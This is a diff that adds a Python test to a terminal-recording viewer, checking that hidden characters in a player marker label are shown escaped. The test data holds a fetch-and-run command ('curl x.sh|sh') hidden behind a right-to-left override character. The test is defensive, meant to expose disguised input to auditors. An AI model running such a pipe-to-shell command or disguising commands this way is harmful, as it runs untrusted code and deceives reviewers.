@@ -286,6 +286,16 @@ def test_a_search_snippet_and_the_end_reason_show_hidden_characters_made_visible
     assert why == reason == "closed: x\\u202eyz\\x1b[8m"
 
 
+def test_the_players_command_markers_show_hidden_characters_made_visible(world: World, client: Client) -> None:
+    # What was typed (`curl x.sh|sh #` and a reversed tail) reads as something else in the tooltip.
+    grant = make_active_grant(world)
+    session = record(world.requester, grant, [("i", "curl x.sh|sh #\u202ehs|hs.x lruc ton\r"), ("o", "ok\r\n")])
+    viewer(client, world.auditor)
+    page = client.get(reverse("terminal:recording", args=[session.pk])).content.decode()
+    options = json.loads(page.split('<script id="player-options" type="application/json">', 1)[1].split("</script>")[0])
+    assert [label for _, label in options["markers"]] == ["curl x.sh|sh #\\u202ehs|hs.x lruc ton"]
+
+
 def test_a_search_holds_a_snippet_per_hit_never_the_transcripts(
     world: World, recording: TerminalSession, client: Client
 ) -> None:
